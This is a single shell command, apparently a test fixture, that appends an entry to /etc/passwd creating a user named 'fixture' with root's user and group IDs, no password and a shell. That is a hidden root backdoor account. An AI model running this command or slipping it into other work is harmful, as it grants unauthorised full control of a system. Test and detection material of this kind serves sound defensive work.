echo 'fixture:x:0:0::/:/bin/sh' >> /etc/passwd
